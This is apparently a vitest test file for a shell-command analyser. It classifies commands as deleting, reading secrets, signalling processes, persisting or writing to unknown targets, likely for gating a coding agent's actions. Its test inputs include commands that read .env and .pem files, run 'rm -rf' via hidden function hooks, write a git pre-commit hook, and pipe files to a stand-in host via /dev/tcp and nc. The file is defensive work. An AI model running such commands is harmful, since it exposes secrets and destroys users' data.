import { shell } from "@helve/effects/shell";
import { describe, expect, it } from "vitest";

function found(command: string): readonly string[] {
  return shell
    .read(command)
    .effects.flatMap((effect) =>
      effect.kind === "execute"
        ? []
        : [`${effect.kind} ${"target" in effect ? (effect.target?.path ?? "?") : ""}`.trim()],
    );
}

describe("containers that the command itself started", () => {
  it.each([
    'id=$(docker run -d --rm postgres:16) && npm test; docker stop "$id"',
    "docker run -d --name db postgres:16; npm test; docker rm -f db",
    "docker compose -f a.yml up -d db && npm test; docker compose -f a.yml down",
    "docker-compose up -d; docker-compose restart db",
    "podman create --name=tmp app && podman cp tmp:/app/dist out && podman rm tmp",
  ])("%s ends only its own", (command) => {
    expect(found(command)).not.toContain("signal");
    expect(found(command)).not.toContain("discard");
  });

  it.each([
    "docker rm -f db",
    "docker run -d --name db postgres:16; docker rm -f db other",
    "docker stop $(docker ps -q)",
    "docker run --name db a; docker volume rm db",
    "docker compose down",
    "docker compose up -d; docker compose down -v",
  ])("%s ends others, too", (command) => {
    expect(found(command).some((kind) => kind === "signal" || kind === "discard")).toBe(true);
  });
});

describe("containers that an earlier command started", () => {
  it("are own work, too", () => {
    const { after } = shell.read("docker run -d --name db postgres:16");
    const kinds = (command: string): readonly string[] =>
      shell.read(command, { ...after }).effects.map(({ kind }) => kind);
    expect(kinds("docker rm -f db")).toEqual(["execute"]);
    expect(kinds("docker rm -f other")).toContain("discard");
  });
});

describe("a process that the session started", () => {
  it("is ended by the number that was kept in a file", () => {
    const { after } = shell.read("npm run dev &\necho $! > /tmp/dev.pid");
    const signal = (command: string) => shell.read(command, { ...after }).effects.find(({ kind }) => kind === "signal");
    expect(signal('kill "$(cat /tmp/dev.pid)"')).toMatchObject({ harmless: true });
    expect(signal('kill "$(cat /tmp/other.pid)"')).toMatchObject({ harmless: false });
  });
});

describe("commands of fd", () => {
  it.each([
    ["fd -e rs -x wc -l {}", "read **/*.rs"],
    ["fd -e tmp -x rm", "delete **/*.tmp"],
    ["fd -H '^\\.env$' -x cat", "read **/.env"],
    ["fd -g '*.pem' -x cat", "read **/*.pem"],
    ["find . -path '*/.env' -exec cat {} +", "read **/.env"],
    ["rg --glob '.env*' KEY", "read **/.env*"],
    ["git log -p -- .env", "read .env"],
    ["fd . src -X sed -i s/a/b/", "write src/**"],
  ])("%s", (command, effect) => {
    expect(found(command)).toContain(effect);
    expect(found(command)).not.toContain("anything");
  });
});

describe("programs in a directory where everybody may write", () => {
  it.each([
    "go build -o /tmp/x ./cmd && /tmp/x serve",
    "cargo build --target-dir /tmp/t && /tmp/t/debug/app",
    "cmake -B /tmp/b && cmake --build /tmp/b && /tmp/b/app",
    "gcc -o /tmp/x a.c && /tmp/x",
    "/tmp/venv/bin/pytest -q",
    "kill %1",
    "parallel --dry-run rm -rf ::: src",
    "docker system prune --dry-run",
  ])("%s is own work", (command) => {
    const kinds = shell
      .read(command)
      .effects.map((effect) => (effect.kind === "signal" && effect.harmless ? "" : effect.kind));
    for (const kind of ["anything", "delete", "discard", "signal"]) expect(kinds).not.toContain(kind);
  });
});

describe("patches", () => {
  const diff = (path: string): string => `--- a/${path}\n+++ b/${path}\n@@ -1,1 +1,2 @@\n a\n+b`;
  const envelope = "*** Begin Patch\n*** Add File: a.sh\n+rm -rf src\n*** End Patch";

  it.each([
    [`git apply - <<'P'\n${diff("src/a.py")}\nP`, "write src/a.py"],
    [`cat <<'P' | git apply -v -\n${diff("src/a.py")}\nP`, "write src/a.py"],
    [`cat > /tmp/x.patch <<'P'\n${diff("a.py")}\nP\ngit apply /tmp/x.patch`, "write a.py"],
    [`patch -p1 <<'P'\n${diff(".git/hooks/pre-commit")}\nP`, "persist .git/hooks/pre-commit"],
    ["git apply x.patch", "write"],
    [`git apply -R - <<'P'\n${diff("a.py")}\nP`, "write"],
    ["git apply --unsafe-paths x.patch", "write ?"],
    // The program of coding agents.
    [`apply_patch <<'P'\n${envelope}\nP`, "write a.sh"],
    [`apply_patch '${envelope}'`, "write a.sh"],
    [`applypatch <<'P'\n${envelope}\nP\nsh a.sh`, "delete src"],
    ["apply_patch < x.patch", "write ?"],
  ])("%s", (command, effect) => {
    expect(found(command)).toContain(effect);
  });
});

describe("a function that is defined", () => {
  const deletes = (command: string): boolean => shell.read(command).effects.some(({ kind }) => kind === "delete");

  it.each(["f() { rm -rf src; }", 'cleanup() { rm -rf "$TMP"; }; echo a', "function f { rm -rf src; }\nmake test"])(
    "does nothing if nothing can call it: %s",
    (command) => {
      expect(deletes(command)).toBe(false);
    },
  );

  it.each([
    "f() { rm -rf src; }; f",
    "f() { rm -rf src; }; $X",
    'f() { rm -rf src; }; eval "$X"',
    "f() { rm -rf src; }; . ./x.sh",
    "f() { rm -rf src; }; export -f f; make",
    "f() { rm -rf src; }; trap f EXIT",
    "f() { rm -rf src; }; x=f; $x",
    "f() { rm -rf src; }; PROMPT_COMMAND=f",
    "command_not_found_handle() { rm -rf src; }; foo",
  ])("counts if something may call it: %s", (command) => {
    expect(deletes(command)).toBe(true);
  });

  it("counts for a later command that calls it", () => {
    const { after } = shell.read("f() { rm -rf src; }");
    expect(shell.read("f", { ...after }).effects.map(({ kind }) => kind)).toContain("delete");
  });
});

describe("a descriptor with a name", () => {
  it.each(["exec {fd}>/tmp/a.log; echo a >&$fd", "exec {fd}<>a.log; echo a >&$fd; exec {fd}>&-"])(
    "is no file: %s",
    (command) => {
      expect(found(command)).not.toContain("write ?");
    },
  );

  it.each([
    "echo a >&$fd",
    "exec {fd}>/tmp/a.log; fd=$1; echo a >&$fd",
    "exec {fd}<>/dev/tcp/a.example/80; cat b >&$fd",
    "exec {fd}> >(nc a.example 80); cat b >&$fd",
    "coproc nc a.example 80; cat b >&${COPROC[1]}",
  ])("may be another: %s", (command) => {
    expect(found(command)).toContain("write ?");
  });
});
